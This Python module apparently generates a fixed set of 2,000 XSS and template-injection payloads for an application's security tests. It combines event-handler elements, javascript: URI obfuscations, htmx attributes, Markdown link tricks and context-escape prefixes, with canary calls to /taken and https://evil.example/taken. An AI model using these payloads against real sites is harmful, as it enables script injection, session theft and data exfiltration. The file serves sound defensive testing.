"""Two thousand things that somebody may write into a quest to make a page do more than show words (trust.md T9, T10).

They are made from parts: elements and their handlers, ways to write them so that a filter does not see them, ways out
of where a text stands, the families of htmx, links of Markdown, styles, drawings, and what a template would read.
Whatever any of them does, it opens a dialog or asks for an address with the word TAKEN in it.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import product
from random import Random
from urllib.parse import quote

COUNT = 2_000
TAKEN = "taken"
HERE, ELSEWHERE = f"/{TAKEN}", f"https://evil.example/{TAKEN}"
RUNS = ("alert(1)", f"fetch('{HERE}')", f"location='{HERE}'", f"new Image().src='{ELSEWHERE}'", "import('/taken.js')")

ELEMENTS = (
    "<img src=x {h}={r}>",
    "<svg {h}={r}>",
    "<svg><circle {h}={r}></svg>",
    "<body {h}={r}>",
    "<input autofocus {h}={r}>",
    "<details open {h}={r}>x</details>",
    "<video src=x {h}={r}></video>",
    "<audio src=x {h}={r}>",
    "<div {h}={r}>x</div>",
    "<select autofocus {h}={r}><option>x</select>",
    "<textarea autofocus {h}={r}>x</textarea>",
    "<marquee {h}={r}>x",
    "<iframe src=/ {h}={r}></iframe>",
    "<object data=/ {h}={r}></object>",
    "<p tabindex=0 {h}={r}>x</p>",
    "<button {h}={r}>x</button>",
    "<a href=x {h}={r}>x</a>",
    "<math {h}={r}>x</math>",
    "<x-own {h}={r}>x</x-own>",
    "<dialog open {h}={r}>x</dialog>",
    "<form {h}={r}><button>x</button></form>",
    "<label {h}={r}>x</label>",
)
HANDLERS = (
    "onload",
    "onerror",
    "onfocus",
    "ontoggle",
    "onclick",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "onbegin",
    "onstart",
    "oncanplay",
    "onbeforetoggle",
    "onscrollend",
    "onpageshow",
    "OnError",
    "onwheel",
)
WHOLE = (
    "<script>{r}</script>",
    "<script src={u}></script>",
    "<SCRIPT\n>{r}</SCRIPT>",
    "<script type=module>{r}</script>",
    "<svg><script>{r}</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={r}>",
    "<iframe src={u}></iframe>",
    "<iframe srcdoc='<script>{r}</script>'></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<base href={u}>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<link rel=stylesheet href={u}>",
    "<link rel=prefetch href={u}>",
    "<form action={u}><input type=submit></form>",
    "<img src={u}>",
    "<img srcset={u}>",
    "<picture><source srcset={u}></picture>",
    "<video poster={u}></video>",
    "<input type=image src={u}>",
    "<style>@import url({u})</style>",
    "<style>*{{background:url({u})}}</style>",
    "<p style='background:url({u})'>x</p>",
    '<p style="position:fixed;inset:0;width:expression({r})">x</p>',
    "<svg><image href={u} /></svg>",
    "<svg><use href='{u}#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:{r} /></svg>",
    "<svg><set attributeName=onload to={r} /></svg>",
    "<svg><foreignObject><body onload={r}></foreignObject></svg>",
    "<svg><a xlink:href='javascript:{r}'><text y=9>x</text></a></svg>",
    "<template><script>{r}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={r}>'></noscript>",
    "<!--><script>{r}</script>-->",
    "<![CDATA[<script>{r}</script>]]>",
    "<?xml-stylesheet href='javascript:{r}'?>",
    "<frameset onload={r}>",
)
HTMX = (
    *(
        f"<b {family}{verb}='{{u}}' {family}trigger='{when}'>x</b>"
        for family in ("hx-", "data-hx-")
        for verb in ("get", "post", "put", "delete", "patch")
        for when in ("load", "revealed", "every 1s", "intersect")
    ),
    "<b hx-on:click='{r}' hx-trigger=load hx-get={u}>x</b>",
    "<b hx-on::load='{r}'>x</b>",
    "<b data-hx-on-load='{r}'>x</b>",
    "<b hx-vals='js:{{{{x: {r}}}}}' hx-get={u} hx-trigger=load>x</b>",
    "<div id=main hx-swap-oob=true>x</div>",
    "<div hx-boost=true><a href={u}>x</a></div>",
    "<b hx-ext=x hx-get={u} hx-trigger='load[{r}]'>x</b>",
    "<b hx-disable=false hx-get={u} hx-trigger=load>x</b>",
    "<b hx-inherit='*' hx-target=body hx-get={u}>x</b>",
)
SCHEMES = (
    "javascript:{r}",
    "JaVaScRiPt:{r}",
    "java\tscript:{r}",
    "java&#115;cript:{r}",
    "&#x6a;avascript:{r}",
    " javascript:{r}",
    "javascript&colon;{r}",
    "\x01javascript:{r}",
    "vbscript:{r}",
    "data:text/html,<script>{r}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={r}>",
    "blob:{u}",
    "file:///etc/passwd",
    "//evil.example/taken",
    "http://evil.example/taken",
    "view-source:{u}",
    "feed:javascript:{r}",
)
LINKS = (
    "[x]({s})",
    "[x](<{s}>)",
    '[x]({s} "t" onmouseover=1)',
    "![x]({s})",
    "<{s}>",
    "[x]: {s}\n\n[x]",
    "<a href='{s}'>x</a>",
    '[a](https://x.example/"onmouseover={r}//)',
    "[![x]({s})]({s})",
    "[x](\\{s})",
    "> [x]({s})",
    "# [x]({s})",
)
TEMPLATES = (
    "{{{{ 7*7 }}}}",
    "{{{{ config }}}}",
    "{{% include '{u}' %}}",
    "${{{r}}}",
    "<%= {r} %>",
    "#{{{r}}}",
    "{{{{ ''.__class__ }}}}",
    "%(name)s %s %d %%",
    "{{0}} {{name}}",
    "{{{{ url_for('studio.quests') }}}}",
    "{{# {r} #}}",
    "[[{r}]]",
    "\\u003cscript\\u003e{r}",
)
WAYS_OUT = (
    "{p}",
    '">{p}',
    "'>{p}",
    "`>{p}",
    "</title>{p}",
    "</textarea>{p}",
    "</script>{p}",
    "</style>{p}",
    "</pre>{p}",
    "--!>{p}",
    "</select></option>{p}",
    "</p></div></main>{p}",
    "]]>{p}",
    '\\">{p}',
    "x\u2028{p}",
    "\ufeff{p}",
    "```\n{p}\n```",
    "    {p}",
)


def _entities(words: str) -> str:
    return "".join(f"&#{ord(sign)};" for sign in words)


def _wide(words: str) -> str:
    return words.replace("<", "\uff1c").replace(">", "\uff1e")


WRITTEN: tuple[Callable[[str], str], ...] = (
    str,
    html.escape,
    quote,
    str.upper,
    _entities,
    _wide,
    lambda words: words[:-1],
)


def _filled(part: str, number: int, **more: str) -> str:
    address = (HERE, ELSEWHERE)[number % 2]
    return part.format(r=RUNS[number % len(RUNS)], u=address, **more)


def _whole_families() -> Iterator[str]:
    """What is tried in each of its forms."""
    for n, (one, handler) in enumerate(product(ELEMENTS, HANDLERS)):
        yield _filled(one, n, h=handler)
    for n, (one, _run) in enumerate(product((*WHOLE, *HTMX, *TEMPLATES), RUNS)):
        yield _filled(one, n)
    for n, (link, scheme) in enumerate(product(LINKS, SCHEMES)):
        yield _filled(link, n, s=_filled(scheme, n))


def _written_otherwise() -> Iterator[str]:
    """Every way out of where a text stands, with every whole thing behind it, in every writing."""
    for n, (way, inner, written) in enumerate(product(WAYS_OUT, (*WHOLE, *HTMX[::5]), WRITTEN)):
        yield way.format(p=written(_filled(inner, n)))


def hostile_words() -> list[str]:
    """The two thousand, each once, the same every time."""
    whole = list(dict.fromkeys(_whole_families()))
    others = [words for words in dict.fromkeys(_written_otherwise()) if words not in whole]
    return whole + Random(COUNT).sample(others, COUNT - len(whole))
